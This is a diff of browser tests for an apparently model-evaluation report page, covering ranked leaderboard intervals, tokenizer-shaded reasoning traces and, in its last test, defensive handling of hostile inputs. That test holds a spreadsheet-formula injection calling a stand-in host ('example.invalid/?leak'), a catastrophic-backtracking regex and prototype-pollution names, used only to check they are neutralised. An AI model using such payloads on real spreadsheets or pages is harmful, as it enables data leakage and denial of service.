@@ -27,6 +27,7 @@ import warnings
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
+from urllib.parse import quote
 
 import numpy as np
 import pandas as pd
@@ -219,7 +220,10 @@ def test_the_ranked_summary_comes_first_and_is_trac_reports_ranked_table(page: P
     assert [row[7] for row in shown] == ["" if math.isnan(p) else format_p(p, 50) for p in expected["p"]]
     macro = expected["macro AUROC"].to_numpy()
     assert list(macro) == sorted(macro, reverse=True)
-    assert [row[8] for row in shown][:2] == ["best", "2nd"] and macro[0] > macro[1] > macro[2]
+    # the badges are trac report's marks: best, or the band tied with it (docs/method.md#paired-differences)
+    marks = expected["mark"].fillna("").str.split("; ")
+    assert [row[8] for row in shown] == [next((m for m in found if m != "constant score"), "") for found in marks]
+    assert shown[0][8] in ("best", "tied with the best")
     # the Markdown leaderboard lists the same methods in the same order
     markdown = (written["tables"] / "leaderboard.md").read_text().split("## Ranked by macro AUROC")[1].split("##")[0]
     listed = [
@@ -230,7 +234,71 @@ def test_the_ranked_summary_comes_first_and_is_trac_reports_ranked_table(page: P
     page.select_option("#ranked-metric", "aurc")
     aurc = floats(page.eval_on_selector_all("#ranked-summary td.value", "cells => cells.map(c => c.dataset.value)"))
     assert aurc == sorted(aurc) and len(set(aurc)) > 1
-    assert page.locator("#ranked-summary svg.whisker circle.dot").count() >= 2 * len(aurc) - 1
+    assert page.locator("#ranked-summary svg.whisker .dot").count() >= 2 * len(aurc) - 1
+    # the value scale spans the leading ranks: their dots are on it, a weaker method's beyond it is cut and said so
+    value_dots = page.eval_on_selector_all(
+        "#ranked-summary tbody tr td:nth-child(4) svg.whisker",
+        "svgs => svgs.map(node => [node.querySelector('.dot').tagName, node.getAttribute('aria-label')])",
+    )
+    assert all(tag == "circle" for tag, _ in value_dots[:6])
+    assert all((tag == "polygon") <= label.endswith("(off scale)") for tag, label in value_dots)
+
+
+def test_every_ranked_interval_contains_its_value_and_calibration_shows_the_auroc(page: Page, written: dict) -> None:
+    """Issue 47: under every rank-by metric each interval on the summary contains its value, a tied band is barred
+    and badged, a constant score is never first on a calibration metric, and ECE is ranked beside the AUROC."""
+    metrics = page.eval_on_selector_all("#ranked-metric option", "options => options.map(option => option.value)")
+    assert {"auroc", "ece", "brier"} <= set(metrics)
+    for metric in metrics:
+        page.select_option("#ranked-metric", metric)
+        rows = page.eval_on_selector_all(
+            "#ranked-summary tbody tr",
+            """rows => rows.map(row => [...row.querySelectorAll('td.value, td.difference')]
+                .filter(cell => cell.dataset.value).map(cell => [cell.dataset.lo, cell.dataset.value, cell.dataset.hi])
+                .concat([[row.classList.contains('tied'), row.querySelector('.badge.mark')?.textContent ?? '',
+                          !!row.querySelector('.badge.constant')]]))""",
+        )
+        for row in rows:
+            *intervals, (barred, badge, constant) = row
+            for lo, value, hi in intervals:
+                if lo and hi:
+                    # 1e-12: a resampled metric equals the direct one up to rounding (method.md#hierarchical-bootstrap)
+                    assert float(lo) - 1e-12 <= float(value) <= float(hi) + 1e-12, (metric, lo, value, hi)
+            assert barred == (badge == "tied with the best"), metric
+        if metric in ("ece", "brier", "log_loss"):
+            assert not rows[0][-1][2], f"a constant score ranked first on {metric}"
+    expected = pd.read_csv(written["tables"] / "ranked_summary.csv")
+    page.select_option("#ranked-metric", "ece")
+    head = page.eval_on_selector_all("#ranked-summary thead th", "cells => cells.map(c => c.textContent)")
+    assert "macro AUROC" in head
+    shown = page.eval_on_selector_all(
+        "#ranked-summary tbody tr",
+        """rows => rows.map(row => [row.querySelector('th.method').firstChild.textContent,
+                                    row.querySelector('td.auroc').dataset.value])""",
+    )
+    auroc = dict(zip(expected["method"], expected["macro AUROC"]))
+    assert [float(value) for _, value in shown] == pytest.approx([auroc[method] for method, _ in shown], rel=1e-12)
+    assert "equal-mass bins" in page.inner_text("#ranked-metric-definition")
+    # any method as the reference (a headline metric), kept in the link with the rank-by metric
+    page.select_option("#ranked-metric", "auroc")
+    page.select_option("#ranked-against", "trac")
+    rows = page.eval_on_selector_all(
+        "#ranked-summary tbody tr",
+        """rows => rows.map(row => [row.dataset.method, +row.querySelector('td.value').dataset.value,
+                                    row.querySelector('td.difference').dataset.value ?? null,
+                                    row.querySelector('td.difference').textContent])""",
+    )
+    trac = next(value for method, value, _, _ in rows if method == "trac")
+    for method, value, difference, text in rows:
+        if method == "trac":
+            assert text == "reference"
+        else:
+            assert float(difference) == pytest.approx(value - trac, abs=1e-6)  # 6 significant digits
+    assert "against=trac" in page.url
+    page.select_option("#ranked-metric", "brier")
+    assert page.is_disabled("#ranked-against") and "rank=brier" in page.url
+    with opened(page.context, page.url, written["html"]) as again:
+        assert again.input_value("#ranked-metric") == "brier" and again.input_value("#ranked-against") == "trac"
 
 
 def test_every_method_and_metric_says_what_it_is_and_links_its_docs_section(page: Page) -> None:
@@ -965,3 +1033,116 @@ def test_a_screenshot_of_an_opened_question(page: Page, tmp_path: Path) -> None:
     if os.environ.get("TRAC_UPDATE_SCREENSHOTS") == "1":
         SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
         shutil.copyfile(shot, SCREENSHOT)
+
+
+def rewrite_records(runs: Path, model: str, change) -> None:
+    """Rewrite ``model``'s record file under ``runs`` (one task) with ``change(record)``'s fields replaced."""
+    import dataclasses
+
+    from trac_metrics.records import RecordWriter
+
+    (path,) = runs.glob(f"{model}/trac_records/*.jsonl")
+    records = list(iter_records(path))
+    path.unlink()
+    writer = RecordWriter(path)
+    for record in records:
+        writer.write_batch([dataclasses.replace(record, **change(record))])
+
+
+def test_the_tiny_reasoners_traces_are_shaded_by_its_own_tokenizer(browser: Browser, tmp_path: Path) -> None:
+    """Issue 47: as ``scripts/demo.sh`` writes the demo's page (``--tokenizer`` the tiny reasoner's folder, the model
+    named by that path as lm-eval's ``pretrained=`` names it), traces whose stored text keeps the model's special
+    ``<think>`` / ``</think>`` tokens are shaded token by token, and no tab overflows a 390 px screen."""
+    from transformers import AutoTokenizer
+
+    reasoner = REPO / "trac_tasks" / "data" / "tiny-reasoner"
+    tokenizer = AutoTokenizer.from_pretrained(reasoner)
+    assert tokenizer.convert_tokens_to_ids(MARKER) in tokenizer.all_special_ids
+    runs, html = tmp_path / "runs", tmp_path / "demo.html"
+    write_tokenized_runs(runs, tokenizer, ["tiny-reasoner"], ["trac_demo"], 24, k=4)
+    rewrite_records(runs, "tiny-reasoner", lambda record: {"model": str(reasoner)})
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", TracWarning)
+        main(["report", str(runs), "--html", str(html), "--tokenizer", str(reasoner), "--resamples", "20"])
+    context = browser.new_context(offline=True, viewport={"width": 1440, "height": 960})
+    with opened(context, f"{html.as_uri()}#tab=questions&open=0:3", html) as page:
+        page.wait_for_selector(loaded("#question-view"), state="attached")
+        record = primary(runs, "tiny-reasoner", "trac_demo", 3)
+        assert shown_trace(page, "#question-view") == tokenizer.decode(record.token_ids, skip_special_tokens=False)
+        assert page.eval_on_selector_all("#question-view .trace span[class^=s]", "spans => spans.length") > 0
+        assert page.locator("#question-view .trace .eot").count() == 1
+    context.close()
+    phone = browser.new_context(offline=True, viewport={"width": 390, "height": 844})
+    with opened(phone, html.as_uri(), html) as page:
+        for tab in ("leaderboard", "figures", "analyses", "questions", "compare"):
+            page.click(f"button[data-tab={tab}]")
+            assert page.evaluate("document.documentElement.scrollWidth") <= 390, tab
+    phone.close()
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?leak")'
+"""A model answer a spreadsheet program would run as a formula."""
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory, tiny_tokenizer) -> Path:
+    """A page whose document ids hold ":" (``aime:2024:<n>``), whose questions 0–4 carry a metadata field named
+    ``constructor``, and whose question 5's primary answer is a spreadsheet formula."""
+
+    def change(record) -> dict:
+        changes = {"doc_id": f"aime:2024:{record.doc_id}"}
+        if record.doc_id < 5:
+            changes["metadata"] = {**record.metadata, "constructor": "odd"}
+        if record.doc_id == 5 and record.repeat == 0:
+            changes["answer"] = FORMULA
+        return changes
+
+    root = tmp_path_factory.mktemp("hostile")
+    write_tokenized_runs(root / "runs", tiny_tokenizer, ["model-a"], ["aime"], 12, k=2)
+    rewrite_records(root / "runs", "model-a", change)
+    html = root / "hostile.html"
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", TracWarning)
+        main(["report", str(root / "runs"), "--html", str(html), "--resamples", "20", "--jobs", "1"])
+    return html
+
+
+def test_hostile_links_ids_and_cells_are_harmless(browser: Browser, hostile: Path) -> None:
+    """Issue 50, the page's side: prototype names in a link open the leaderboard; a link's /regex/ is never run; a
+    /regex/g search keeps every match; a document id with ":" opens that very question; a metadata field named
+    ``constructor`` filters; a CSV cell that starts as a formula is led by ' while numbers stay numbers."""
+    context = browser.new_context(offline=True, viewport={"width": 1440, "height": 960})
+    for tab in ("constructor", "__proto__", "toString"):
+        with opened(context, f"{hostile.as_uri()}#tab={tab}", hostile) as page:
+            assert not page.locator("#panel-leaderboard").is_hidden()
+            assert page.locator("#ranked-summary tbody tr").count() > 0
+    freezing = "/(\\w+\\s?)+#/"  # backtracks for ever on a long line without "#"
+    with opened(context, f"{hostile.as_uri()}#tab=questions&q={quote(freezing, safe='')}", hostile) as page:
+        expect(page.locator("#question-list tbody tr")).to_have_count(12)
+        assert "not run" in page.inner_text("#search-note")
+        search = page.locator("#question-search")
+        search.fill("/[0-9]/")
+        search.press("Enter")
+        expect(page.locator("#question-list tbody tr")).to_have_count(12)
+        search.fill("/[0-9]/g")  # a stateful /g would skip every other match
+        search.press("Enter")
+        expect(page.locator("#question-list tbody tr")).to_have_count(12)
+        search.fill("/" + "a" * 201 + "/")
+        search.press("Enter")
+        assert "at most 200 characters" in page.inner_text("#search-note")
+        search.fill("")
+        search.press("Enter")
+        page.locator("#question-list tbody tr").filter(has=page.locator("td:text-is('aime:2024:7')")).click()
+        assert opened_title(page) == "model-a · aime · document aime:2024:7"
+        link = page.url
+        page.select_option("#filter-field", "constructor")
+        page.fill("#filter-field-value", "odd")
+        expect(page.locator("#question-list tbody tr")).to_have_count(5)
+        page.fill("#filter-field-value", "")
+        expect(page.locator("#question-list tbody tr")).to_have_count(12)
+        shown = pd.read_csv(downloaded(page, ".downloads[data-stem=questions] .download-csv"))
+        assert (shown["answer"] == "'" + FORMULA).sum() == 1 and not shown["answer"].str.startswith("=").any()
+        assert pd.api.types.is_numeric_dtype(shown["trac score"])
+    with opened(context, link, hostile) as page:
+        assert opened_title(page) == "model-a · aime · document aime:2024:7"
+    context.close()
